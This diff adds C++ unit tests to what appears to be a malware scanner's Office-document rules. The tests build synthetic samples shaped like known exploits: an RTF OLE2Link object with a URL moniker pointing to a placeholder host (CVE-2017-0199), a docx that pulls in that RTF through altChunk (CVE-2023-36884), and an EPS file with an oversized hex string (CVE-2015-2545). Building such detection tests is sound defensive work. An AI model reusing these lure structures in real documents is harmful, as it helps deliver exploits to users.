@@ -481,4 +481,126 @@ TEST(OfficeRules, ActiveGroupIsMissingForOtherTypes) {
   EXPECT_TRUE(std::isnan(feature(r, "active.remote_template_web")));
 }
 
+
+// An RTF whose OLE2Link object resolves a URL moniker on open (the shape of CVE-2017-0199 and of RomCom's chunk):
+// named by `rtf-exploit-object` when scanned as an RTF.
+std::string rtf_link_exploit() {
+  std::vector<std::uint8_t> ole(20, 0);
+  const std::uint8_t url_moniker[16] = {0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11,
+                                        0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9, 0x0B};
+  ole.insert(ole.end(), std::begin(url_moniker), std::end(url_moniker));
+  for (char c : std::string("http://203.0.113.9/file001.url")) ole.insert(ole.end(), {static_cast<std::uint8_t>(c), 0});
+  CfbSpec spec;
+  spec.streams = {{"\x01Ole", ole}};
+  return rtf_embedded_object("Word.Document.8", build_cfb(spec), "\\objupdate");
+}
+
+// A docx whose body imports `chunk_part` through w:altChunk (relationship type aFChunk, Target `target`), the part
+// (`chunk_first`) before or after the relationships part in the zip.
+std::vector<std::uint8_t> docx_with_chunk(const std::string& chunk_part, const std::string& target, const std::string& chunk,
+                                          bool chunk_first = true) {
+  const std::string rels =
+      "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+      "<Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk\" Target=\"" +
+      target + "\" Id=\"AltChunkId5\"/></Relationships>";
+  std::vector<ZipItem> items = {{"[Content_Types].xml", blob(kWordContentTypes)},
+                                {"word/document.xml", blob("<w:document xmlns:w=\"w\"><w:body><w:altChunk r:id=\"AltChunkId5\"/></w:body></w:document>")}};
+  if (chunk_first) items.push_back({chunk_part, blob(chunk)});
+  items.push_back({"word/_rels/document.xml.rels", blob(rels)});
+  if (!chunk_first) items.push_back({chunk_part, blob(chunk)});
+  return make_zip(items);
+}
+
+// CVE-2023-36884 (RomCom): the exploit is an RTF imported as an altChunk. The chunk is handed to the engine as a
+// member and scanned as the RTF it is; the docx's own vector does not change (the same bytes as an image give the
+// same vector but no member), so the shipped model keeps its figures.
+TEST(OfficeRules, AltChunkRtfIsScannedAsAnRtf) {
+  const std::string rtf = rtf_link_exploit();
+  const auto s = featurize(docx_with_chunk("word/afchunk.rtf", "/word/afchunk.rtf", rtf));
+  ASSERT_EQ(s.embedded.size(), 1u);
+  EXPECT_EQ(s.embedded[0].name, "word/afchunk.rtf");
+  EXPECT_EQ(std::string(s.embedded[0].bytes.begin(), s.embedded[0].bytes.end()), rtf);
+  const auto image = featurize(docx_with_chunk("word/media/a.png", "/word/afchunk.rtf", rtf));  // same name length
+  EXPECT_TRUE(image.embedded.empty());
+  ASSERT_EQ(s.x.size(), image.x.size());
+  for (std::size_t i = 0; i < s.x.size(); ++i)
+    EXPECT_TRUE(s.x[i] == image.x[i] || (std::isnan(s.x[i]) && std::isnan(image.x[i]))) << features::office_schema().features[i].name;
+  // A chunk under any name, found through its relationship only, and after the relationships part in the zip.
+  const auto odd = featurize(docx_with_chunk("word/gxq17.bin", "gxq17.bin", rtf, false));
+  ASSERT_EQ(odd.embedded.size(), 1u);
+  EXPECT_EQ(odd.embedded[0].name, "word/gxq17.bin");
+  const auto up = featurize(docx_with_chunk("word/gxq17.bin", "../word/./gxq17.bin", rtf));
+  EXPECT_EQ(up.embedded.size(), 1u);
+  // An external aFChunk target is not a part of the package: nothing to scan.
+  EXPECT_TRUE(featurize(docx_with_chunk("word/media/a.png", "http://203.0.113.9/a.rtf", rtf)).embedded.empty());
+
+  auto sc = office_scanner();
+  if (!sc) GTEST_SKIP() << "models/office not found";
+  const auto doc = docx_with_chunk("word/afchunk.rtf", "/word/afchunk.rtf", rtf);
+  const auto r = sc->scan_bytes(ByteView(doc.data(), doc.size()), "lure.docx");
+  EXPECT_EQ(r.verdict, engine::Verdict::malicious) << r.signature;
+  bool named = false;
+  for (const auto& m : r.members)
+    for (const auto& [k, v] : m.context) named |= m.path == "lure.docx!word/afchunk.rtf" && k == "rule" && v == "rtf-exploit-object";
+  EXPECT_TRUE(named);
+}
+
+// What generators of reports do with altChunk: import an HTML or RTF body with text and a table. Scanned, not named.
+TEST(OfficeRules, PlainAltChunksAreNotNamed) {
+  auto sc = office_scanner();
+  if (!sc) GTEST_SKIP() << "models/office not found";
+  const std::string rtf = "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\f0\\fs22 Quarterly report\\par{\\b Totals}\\par}";
+  const std::string html = "<html><body><h1>Report</h1><table><tr><td>Q3</td><td>1,204</td></tr></table></body></html>";
+  for (const auto& [part, body] : {std::pair<std::string, std::string>{"word/afchunk.rtf", rtf}, {"word/afchunk1.htm", html}}) {
+    const auto doc = docx_with_chunk(part, part.substr(5), body);
+    const auto r = sc->scan_bytes(ByteView(doc.data(), doc.size()), "report.docx");
+    EXPECT_NE(r.verdict, engine::Verdict::malicious) << part << " " << r.signature;
+    ASSERT_EQ(r.members.size(), 1u) << part;
+    EXPECT_NE(r.members[0].verdict, engine::Verdict::malicious) << part;
+  }
+}
+
+// A docx with `eps` as word/media/image1.eps.
+std::vector<std::uint8_t> docx_with_eps(const std::string& eps, const std::string& part = "word/media/image1.eps") {
+  return make_zip({{"[Content_Types].xml", blob(kWordContentTypes)},
+                   {"word/document.xml", blob("<w:document xmlns:w=\"w\"><w:body><w:p/></w:body></w:document>")},
+                   {part, blob(eps)}});
+}
+
+std::string hex_digits(std::size_t bytes, std::size_t per_line) {
+  static const char* d = "0123456789abcdef";
+  std::string s;
+  for (std::size_t i = 0; i < bytes; ++i) {
+    s += d[(i * 7) & 15];
+    s += d[(i * 13 + 5) & 15];
+    if (per_line && (i + 1) % per_line == 0) s += '\n';
+  }
+  return s;
+}
+
+// CVE-2015-2545 / CVE-2017-0261: the EPS program carries its payload as one hex string literal longer than any
+// PostScript interpreter accepts (65,535 bytes). The look-alikes: an image whose data is read with readhexstring
+// (1 MB of hex after the program, no literal), a literal of 60,000 bytes, and hex digits inside a comment and a
+// literal string.
+TEST(OfficeRules, EpsWithAnOversizedHexString) {
+  const std::string head = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n";
+  const std::string exploit = head + "/s <" + hex_digits(70000, 32) + "> def\ns 0 1 putinterval\n%%EOF\n";
+  const auto bad = featurize(docx_with_eps(exploit));
+  EXPECT_EQ(bad.structural_rule, "eps-oversized-string");
+  // The same bytes under an image name of the same length: not read, not named, and the same vector (a structural
+  // rule leaves the features, and so the shipped model's scores, alone).
+  const auto png = featurize(docx_with_eps(exploit, "word/media/image1.png"));
+  EXPECT_EQ(png.structural_rule, "");
+  ASSERT_EQ(bad.x.size(), png.x.size());
+  for (std::size_t i = 0; i < bad.x.size(); ++i)
+    EXPECT_TRUE(bad.x[i] == png.x[i] || (std::isnan(bad.x[i]) && std::isnan(png.x[i]))) << features::office_schema().features[i].name;
+  const auto image = featurize(docx_with_eps(head + "/pic 300 string def 100 100 8 [1 0 0 1 0 0]\n"
+                                             "{currentfile pic readhexstring pop} image\n" + hex_digits(1 << 20, 40) + "\n%%EOF\n"));
+  EXPECT_EQ(image.structural_rule, "");
+  const auto small = featurize(docx_with_eps(head + "/s <" + hex_digits(60000, 32) + "> def\n%%EOF\n"));
+  EXPECT_EQ(small.structural_rule, "");
+  const auto quoted = featurize(docx_with_eps(head + "% <" + hex_digits(70000, 0) + ">\n(<" + hex_digits(70000, 0) + ">) pop\n"));
+  EXPECT_EQ(quoted.structural_rule, "");
+}
+
 }  // namespace
